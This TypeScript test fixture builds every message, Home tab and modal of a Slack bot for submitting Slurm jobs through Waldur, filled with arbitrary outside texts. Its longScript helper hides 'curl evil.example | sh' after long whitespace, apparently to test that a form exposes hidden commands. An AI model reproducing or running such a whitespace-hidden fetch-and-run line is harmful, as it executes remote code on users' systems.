import type { HomeView, ModalView } from '@slack/types';
import type { Ability, Operation, Refused } from '../../src/jobs/abilities.ts';
import type { Allocation, JobDetails } from '../../src/jobs/job.ts';
import type { Past } from '../../src/jobs/past.ts';
import { type Phase, phases } from '../../src/jobs/phase.ts';
import { type Changeable, changeScript } from '../../src/scripts/changes.ts';
import { type Finding, readScript, type Script } from '../../src/scripts/script.ts';
import { usage } from '../../src/views/allocation-usage.ts';
import { card } from '../../src/views/card.ts';
import { chooseJob, chooseScript } from '../../src/views/choosing.ts';
import {
  confirmModal,
  connected,
  connectModal,
  connectOffer,
  disconnected,
  identity,
  pausedNotice,
} from '../../src/views/connecting.ts';
import { details, technicalDetails } from '../../src/views/details.ts';
import { editModal } from '../../src/views/editing.ts';
import { abilities, cannotCancel, help, notUnderstood } from '../../src/views/help-page.ts';
import { type HomeJob, home, homeToConnect } from '../../src/views/home.ts';
import type { IntentTo } from '../../src/views/intent.ts';
import { jobList } from '../../src/views/job-list.ts';
import type { Message } from '../../src/views/message.ts';
import { waitModal } from '../../src/views/modals.ts';
import { deleteModal, unlinkModal } from '../../src/views/removing.ts';
import { reply } from '../../src/views/reply.ts';
import { prompt } from '../../src/views/script-prompt.ts';
import { submissionFailed, submitModal, submitted } from '../../src/views/submitting.ts';
import { named } from '../../src/views/text.ts';
import { type PromptPart, wholePrompt } from '../../src/views/whole-prompt.ts';

/** Texts from outside: names, messages and files that anybody may have written. */
export interface Foreign {
  name: string;
  error: string;
  file: string;
  text: string;
  /** Texts that are `name` or `text` unless they are given. Pictures need words of their own. */
  owner?: string;
  login?: string;
  email?: string;
  project?: string;
  cluster?: string;
  allocation?: string;
  command?: string;
  partition?: string;
  gpu?: string;
  output?: string;
}

export const plainForeign: Foreign = {
  name: 'train',
  error: '',
  file: 'train.sh',
  text: 'First run',
};

const waldurUrl = 'https://waldur.example.org';
/** The operations that a project's administrator is not offered if this Waldur supports all of them. */
const nothing: Refused = new Set(['unlink']);
const unknownPast: Past = { since: null, entry: null, asked: null, output: null };
const day = (hour: number) => new Date(Date.UTC(2026, 10, 24, hour));
const known = new Map<Operation, Ability>([
  ['pull', { refusedAt: day(9), workedAt: null, status: 409 }],
  ['delete', { refusedAt: null, workedAt: null, status: 500 }],
  ['unlink', { refusedAt: null, workedAt: day(9), status: 0 }],
]);
const uuid = 'd2035c217d01467ba3a1309afa2bf5c3';
const scriptKey = 'oPBPGAoIRmK2KQ2TVLXBpQ';
const filter = { mine: true, phases: [], project: 'two words', words: [] };
const listed = (move: IntentTo<'list'>['move']) => ({
  do: 'list' as const,
  filter,
  move,
  post: false,
});

export function job(foreign: Foreign, more: Partial<JobDetails> = {}): JobDetails {
  return {
    uuid,
    name: foreign.name,
    description: foreign.text,
    state: 'ok',
    runtimeState: 'RUNNING',
    slurmId: '48213',
    created: day(12),
    modified: day(14),
    errorMessage: foreign.error,
    projectName: foreign.project ?? foreign.text,
    serviceSettings: 'https://waldur.example.org/api/service-settings/1/',
    userUuid: uuid,
    project: 'https://waldur.example.org/api/projects/1/',
    username: foreign.login ?? foreign.name,
    customerName: foreign.text,
    serviceName: foreign.cluster ?? foreign.text,
    errorTraceback: '',
    report: foreign.text,
    ...more,
  };
}

function allocation(foreign: Foreign): Allocation {
  return {
    uuid,
    name: foreign.allocation ?? foreign.name,
    project: 'https://waldur.example.org/api/projects/1/',
    serviceSettings: 'https://waldur.example.org/api/service-settings/1/',
    projectName: foreign.project ?? foreign.text,
    serviceName: foreign.cluster ?? foreign.text,
    isActive: true,
    usage: { cpu: 1, gpu: 820, ram: 1 },
    limit: { cpu: 100, gpu: 1000, ram: -1 },
  };
}

function script(foreign: Foreign) {
  const lines = ['#!/bin/bash', '#SBATCH -p gpu -t 4:00:00', 'srun ./train', '#SBATCH --mem=32G'];
  const bytes = new TextEncoder().encode(
    `${[...lines, foreign.command ?? foreign.text].join('\n')}\n`,
  );
  return readScript(bytes, { maxBytes: 1_000_000 });
}

/** A script whose directives and findings have these texts in them. */
function quotingScript(foreign: Foreign): Script {
  const { text } = foreign;
  const read = script(foreign);
  const components = read.components.map((component) => ({
    ...component,
    ...{ partition: text, gres: text, dependency: text, begin: text, account: text, qos: text },
    gpus: { count: 1, type: text, per: 'job' as const },
    array: { text, tasks: 1, atATime: null },
  }));
  const finding: Finding = {
    ...{ kind: 'stray', level: 'warning', lines: [3], more: 0 },
    sentence: `"${text}" is no option.`,
  };
  return { ...read, components, warnings: Array(10).fill(finding) };
}

const jobPage = 'https://portal.example.org/projects/77aa/';

function submittedPart({ name, file }: Foreign, times: number): PromptPart {
  const job = {
    name,
    slurmId: '48213',
    by: 'U0ANA00001',
    at: day(12),
    card: permalink,
    handOver: 'not refused' as const,
  };
  const jobs = [
    { ...job, slurmId: '', card: null, handOver: 'refused' as const },
    ...Array(times - 1).fill(job),
  ];
  return { is: 'submitted', scriptKey, fileName: file, jobs, converted: false, gone: false };
}

const permalink = 'https://lab.example.org/files/U0BEN00001/F0TRAIN001/train.sh';

/** A script of more lines, and longer ones, than a form shows. */
function longScript(foreign: Foreign) {
  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
  const lines = ['#!/bin/bash', hiding, ...Array(250).fill(`echo ${foreign.text}`), hiding, hiding];
  return readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
}

/** The additional parts of a form to run a job again. */
function again(foreign: Foreign, option: Changeable, value: string) {
  const lines = ['#!/bin/bash', '#SBATCH -p gpu --mem=32G', `srun ./train ${foreign.text}`, ''];
  const changes = value === '' ? [] : [{ option, value }];
  const changed = changeScript(Buffer.from(lines.join('\n')), changes);
  const read = readScript(changed?.bytes ?? Buffer.alloc(0), { maxBytes: 1_000_000 });
  return {
    source: {
      fileName: foreign.file,
      script: read,
      permalink: null,
      changed: changed?.lines ?? [],
    },
    more: { option, value, own: read.options[option] ?? '' },
    inThread: false,
    threadChannel: null,
  };
}

/** A job about which everything is known. */
function pastOf(phase: Phase, foreign: Foreign): Past {
  const { text, partition = text, gpu = text, output = text } = foreign;
  const toPhase = phase;
  const fromPhase = phase === 'running' ? ('queued' as const) : ('running' as const);
  const times = {
    fromAfter: day(10),
    fromSince: day(10),
    lastBefore: day(14),
    firstAfter: day(14),
  };
  return {
    since: { after: day(14), seen: day(14) },
    entry: { kind: 'other', fromPhase, toPhase, runtimeState: text, found: null, ...times },
    asked: {
      partition,
      nodes: { least: 1, most: 1 },
      gpus: { count: 4, type: gpu, per: 'job' },
      memory: { megabytes: 32_768, per: 'node' },
      minutes: 270,
    },
    output,
  };
}

/** Every message that the bot can say, with these foreign texts in it. */
export function messages(foreign: Foreign): Record<string, Message> {
  const { name, file, text, error } = foreign;
  const { owner = name, login = name, email = text, project = text } = foreign;
  const bad = readScript(new TextEncoder().encode('echo hi\r\n'), { maxBytes: 1000 });
  const change = {
    fromAfter: day(10),
    fromSince: day(10),
    lastBefore: new Date(day(14).getTime() - 60_000),
    firstAfter: day(14),
    found: null,
  };
  const about = {
    uuid,
    name,
    slurmId: '48213',
    errorMessage: error,
    person: 'U0ANA00001',
    tasks: '',
    output: 'slurm-48213.out',
    asked: pastOf('failed', foreign).asked,
    submissionId: null,
  };
  const rows = [
    { ...job(foreign), phase: 'running' as const, tasks: '2 running · 4 queued', ownerName: name },
    {
      ...job(foreign, { runtimeState: '', slurmId: '' }),
      phase: 'submitting' as const,
      tasks: '',
      ownerName: '',
    },
  ];
  const page = {
    jobs: rows,
    of: null,
    refusedIn: () => nothing,
    searched: 3000,
    total: 20_014,
    unread: 0,
  };
  const cards = phases.map((phase): [string, Message] => [
    `card ${phase}`,
    card({
      ...about,
      state: 'ok',
      refused: nothing,
      phase,
      runtimeState:
        phase === 'failed' ? 'TIMEOUT' : phase === 'cancelled' ? 'CANCELLED by 1000' : text,
      projectName: project,
      ownerName: owner,
      submittedAt: day(12),
      past: pastOf(phase, foreign),
      seenAt: day(14),
      asOf: day(14),
      lastChecked: phase === 'running' ? day(13) : null,
      paused: phase === 'queued',
      note: '',
      deletedBy: phase === 'gone' ? owner : null,
      tasks: phase === 'running' ? '2 running · 4 queued' : '',
      silentRuns: phase === 'running' ? 3 : 0,
      closed: phase === 'left the queue' ? 'ended' : null,
    }),
  ]);
  return {
    ...Object.fromEntries(cards),

    'reply started': reply({
      ...about,
      submissionId: null,
      changes: [
        { ...change, kind: 'started', fromPhase: 'queued', toPhase: 'running', runtimeState: 'R' },
      ],
    }),
    'reply started, one of several jobs': reply({
      ...about,
      submissionId: null,
      changes: [
        { ...change, kind: 'started', fromPhase: 'queued', toPhase: 'running', runtimeState: 'R' },
      ],
    }),
    'reply ended': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'ended',
          fromPhase: 'running',
          toPhase: 'failed',
          runtimeState: 'TIMEOUT',
        },
      ],
    }),
    'reply gathered': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'started',
          fromPhase: 'queued',
          toPhase: 'running',
          runtimeState: 'RUNNING',
        },
        {
          ...change,
          kind: 'requeued',
          fromPhase: 'running',
          toPhase: 'queued',
          runtimeState: 'PENDING',
        },
        {
          ...change,
          kind: 'ended',
          fromPhase: 'queued',
          toPhase: 'completed',
          runtimeState: 'COMPLETED',
        },
      ],
    }),
    'reply not submitted': reply({
      ...about,
      errorMessage: error || 'Access token is not found',
      submissionId: '7f3a9c7f3a9c',
      changes: [
        {
          ...change,
          kind: 'not submitted',
          fromPhase: 'submitting',
          toPhase: 'erred',
          runtimeState: '',
        },
      ],
    }),
    'reply left the queue': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'ended',
          fromPhase: 'running',
          toPhase: 'left the queue',
          runtimeState: 'RUNNING',
        },
      ],
    }),
    'reply in the queue after all': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'requeued',
          fromPhase: 'left the queue',
          toPhase: 'running',
          runtimeState: 'RUNNING',
        },
        {
          ...change,
          kind: 'requeued',
          fromPhase: 'failed',
          toPhase: 'queued',
          runtimeState: 'PENDING',
        },
      ],
    }),
    'reply found': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'found',
          fromPhase: 'erred',
          toPhase: 'erred',
          runtimeState: '',
          found: { uuid, slurmId: '48220' },
        },
      ],
    }),
    'reply ended, an array': reply({
      ...about,
      submissionId: null,
      tasks: '4 completed · 2 failed (3, 5)',
      changes: [
        {
          ...change,
          kind: 'ended',
          fromPhase: 'running',
          toPhase: 'failed',
          runtimeState: 'TIMEOUT',
        },
      ],
    }),
    'reply not shown': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'not shown',
          fromPhase: 'running',
          toPhase: 'running',
          runtimeState: 'RUNNING',
        },
      ],
    }),
    'reply perhaps submitted': reply({
      ...about,
      errorMessage: error || 'Message: Unauthorized, status code: 401',
      submissionId: '7f3a9c7f3a9c',
      changes: [
        {
          ...change,
          kind: 'not submitted',
          fromPhase: 'submitting',
          toPhase: 'erred',
          runtimeState: '',
        },
      ],
    }),
    'reply no news': reply({
      ...about,
      submissionId: null,
      changes: [
        {
          ...change,
          kind: 'no news',
          fromPhase: 'submitted',
          toPhase: 'submitted',
          runtimeState: '',
        },
      ],
    }),
    list: jobList({
      ...page,
      range: { from: 1, to: 10 },
      of: { number: 148, noun: 'record' },
      total: 148,
      filter: { ...filter, mine: false, project: null },
      newer: null,
      older: listed({ to: 'older', uuid, created: 1, rank: 10 }),
      further: null,
      post: { ...listed(null), post: true },
      postedBy: null,
    }),
    'list searched': jobList({
      ...page,
      range: null,
      filter: { ...filter, words: [text.slice(0, 200)] },
      newer: null,
      older: null,
      further: listed({ to: 'older', uuid, created: 1, rank: 3000 }),
      post: { ...listed(null), post: true },
      postedBy: null,
    }),
    'list posted': jobList({
      ...page,
      range: { from: 1, to: 2 },
      of: { number: 2, noun: 'job' },
      filter: { ...filter, words: ['runing'] },
      newer: null,
      older: null,
      further: null,
      post: null,
      postedBy: name,
    }),
    'list without a match': jobList({
      ...page,
      jobs: [],
      range: null,
      filter: { ...filter, project: null, words: ['runing', text.slice(0, 200)] },
      newer: null,
      older: null,
      further: null,
      post: null,
      postedBy: null,
    }),
    'list empty': jobList({
      ...page,
      jobs: [],
      range: null,
      total: 0,
      filter: { ...filter, project: null },
      newer: null,
      older: null,
      further: null,
      post: null,
      postedBy: null,
    }),
    'technical details': technicalDetails(job(foreign, { errorTraceback: text, report: null })),
    details: details(job(foreign), nothing, {
      phase: 'running',
      tasks: '',
      past: unknownPast,
      page: jobPage,
      now: day(15),
    }),
    'details left the queue': details(job(foreign), nothing, {
      phase: 'left the queue',
      tasks: '',
      past: pastOf('left the queue', foreign),
      page: null,
      now: day(15),
    }),
    'details of an array': details(job(foreign), nothing, {
      phase: 'running',
      tasks: '2 running · 4 queued',
      past: pastOf('running', foreign),
      page: jobPage,
      now: day(15),
    }),
    'details not handed over': details(job(foreign, { runtimeState: '', slurmId: '' }), nothing, {
      phase: 'submitting',
      tasks: '',
      past: unknownPast,
      page: jobPage,
      now: day(15),
    }),
    'details erred': details(
      job(foreign, { state: 'erred', errorMessage: error || 'sbatch: error: no' }),
      nothing,
      { phase: 'erred', tasks: '', past: unknownPast, page: jobPage, now: day(15) },
    ),
    prompt: prompt({
      scriptKey,
      fileName: file,
      name,
      script: script(foreign),
      converted: false,
    }),
    'prompt for a script that quotes': prompt({
      scriptKey,
      fileName: file,
      name,
      script: quotingScript(foreign),
      converted: true,
    }),
    'prompt submitted': wholePrompt([submittedPart(foreign, 7)]),
    'prompt of several': wholePrompt([
      {
        is: 'read',
        scriptKey,
        fileName: file,
        name,
        script: quotingScript(foreign),
        converted: false,
      },
      { is: 'read', scriptKey, fileName: file, name, script: bad, converted: false },
      submittedPart(foreign, 1),
      { is: 'unread', scriptKey, fileName: file, sentence: named(file) },
      { is: 'gone', scriptKey, fileName: file },
    ]),
    'prompt refused': prompt({ scriptKey, fileName: file, name, script: bad, converted: false }),
    connect: connectOffer({
      purpose: 'submit',
      next: { do: 'submit', script: scriptKey, convert: false, seenBy: null },
      why: 'never',
      waldurUrl,
    }),
    'connect again': connectOffer({
      purpose: 'list your jobs',
      next: listed(null),
      why: 'expired',
      waldurUrl,
    }),
    'sign in again': connectOffer({
      purpose: 'list your jobs',
      next: listed(null),
      why: 'no session',
      waldurUrl,
    }),
    'deactivated in Waldur': connectOffer({
      purpose: 'list your jobs',
      next: listed(null),
      why: 'deactivated',
      waldurUrl,
    }),
    connected: connected({ fullName: owner, username: login, next: '' }),
    usage: usage([
      allocation(foreign),
      {
        ...allocation(foreign),
        usage: { cpu: 3.45, gpu: 1200, ram: 0 },
        limit: { cpu: -1, gpu: 1000, ram: 0 },
      },
      {
        ...allocation(foreign),
        usage: { cpu: 0, gpu: 0, ram: 0 },
        limit: { cpu: -1, gpu: -1, ram: -1 },
      },
    ]),
    'no allocation': usage([]),
    whoami: identity({
      fullName: owner,
      username: login,
      email,
      waldurUrl: 'https://waldur.example.org',
      connectedAt: day(9),
      watches: 1,
    }),
    disconnected: disconnected(2, 'token'),
    'disconnected, found by e-mail': disconnected(0, 'email'),
    'token expired': pausedNotice({ by: 'token', waldurUrl, watches: 2 }),
    'session ended': pausedNotice({ by: 'email', waldurUrl, watches: 1 }),
    submitted: submitted(name),
    'submission failed': submissionFailed(
      name,
      'Waldur did not answer within 10 s.',
      '7f3a9c7f3a9c',
    ),
    choose: chooseJob(
      `2 jobs match “${text}”. Which one?`.slice(0, 2000),
      { do: 'show', job: '' },
      rows,
    ),
    'choose script': chooseScript([{ key: scriptKey, fileName: file }], 'U0123456789A'),
    help: help([{ usage: 'show <job>', summary: 'Everything' }]),
    'not understood': notUnderstood(text, 'show'),
    'cannot cancel': cannotCancel(text),
    'help with abilities': help(
      [{ usage: 'show <job>', summary: 'Everything' }],
      abilities({ of: (operation) => known.get(operation) ?? null }),
    ),
  };
}

/** Every Home tab, with these foreign texts in it. */
export function homes(foreign: Foreign): Record<string, HomeView> {
  const { name, owner = name, login = name } = foreign;
  const followed = (phase: Phase, more: Partial<HomeJob> = {}): HomeJob => ({
    ...job(foreign),
    phase,
    tasks: '',
    submittedAt: day(12),
    seenAt: day(14),
    refused: nothing,
    past: pastOf(phase, foreign),
    card: permalink,
    channel: 'C0JOBS0001',
    ...more,
  });
  const who = { fullName: owner, username: login };
  return {
    home: home({
      ...who,
      going: [
        followed('running'),
        followed('queued', { slurmId: '', card: null }),
        followed('running', { channel: null, tasks: '2 running · 4 queued' }),
      ],
      ended: [followed('failed', { runtimeState: 'OUT_OF_MEMORY' }), followed('completed')],
      allocations: [allocation(foreign)],
    }),
    'home without jobs': home({ ...who, going: [], ended: [], allocations: [] }),
    'home of many jobs': home({
      ...who,
      going: Array.from({ length: 20 }, () => followed('running')),
      ended: Array.from({ length: 5 }, () => followed('failed')),
      allocations: Array.from({ length: 60 }, () => allocation(foreign)),
    }),
    'home to connect': homeToConnect(),
  };
}

/** Every modal, with these foreign texts in it. */
export function modals(foreign: Foreign): Record<string, ModalView> {
  const { name, file, text } = foreign;
  const { owner = name, login = name, email = text } = foreign;
  const form = {
    metadata: '{}',
    foreign: 'U0BEN00001',
    more: null,
    username: login,
    name,
    description: text,
    allocation: allocation(foreign),
    channel: null,
    problem: null,
  };
  return {
    'is that you': confirmModal({
      username: login,
      fullName: owner,
      email,
      waldurUrl,
      metadata: '{}',
    }),
    wait: waitModal('Submit to Slurm', 'Submitting…'),
    connect: connectModal({
      waldurUrl: 'https://waldur.example.org',
      tokenPage: 'https://portal.example.org/profile/api-key/',
      metadata: '{}',
      problem: 'Waldur does not take this token.',
    }),
    submit: submitModal({
      ...form,
      source: { fileName: file, script: script(foreign), permalink, changed: [] },
      inThread: true,
      threadChannel: 'C0JOBS0001',
    }),
    'submit a long script': submitModal({
      ...form,
      source: { fileName: file, script: longScript(foreign), permalink, changed: [] },
      inThread: true,
      threadChannel: null,
    }),
    'submit upload': submitModal({
      ...form,
      source: null,
      foreign: null,
      inThread: false,
      threadChannel: null,
    }),
    'run again with more memory': submitModal({
      ...form,
      ...again(foreign, 'mem', '64G'),
      foreign: null,
      problem: '`48213` ran out of memory.',
    }),
    'run again somebody else’s': submitModal({
      ...form,
      ...again(foreign, 'time', '9:00:00'),
      foreign: '',
      problem: '`48213` reached its time limit.',
    }),
    'run again, nothing was asked for': submitModal({
      ...form,
      ...again(foreign, 'time', ''),
      foreign: null,
      problem: '`48213` reached its time limit.',
    }),
    'run again as it was': submitModal({ ...form, ...again(foreign, 'mem', ''), foreign: null }),
    edit: editModal({ metadata: '{}', name, description: text, upload: true, problem: null }),
    unlink: unlinkModal({ name, slurmId: '48213', phase: 'running', metadata: '{}' }),
    'unlink an ended job': unlinkModal({ name, slurmId: '48213', phase: 'failed', metadata: '{}' }),
    delete: deleteModal({ name, slurmId: '48213', phase: 'running', metadata: '{}' }),
    'delete an ended job': deleteModal({
      name,
      slurmId: '48213',
      phase: 'failed',
      metadata: '{}',
    }),
  };
}
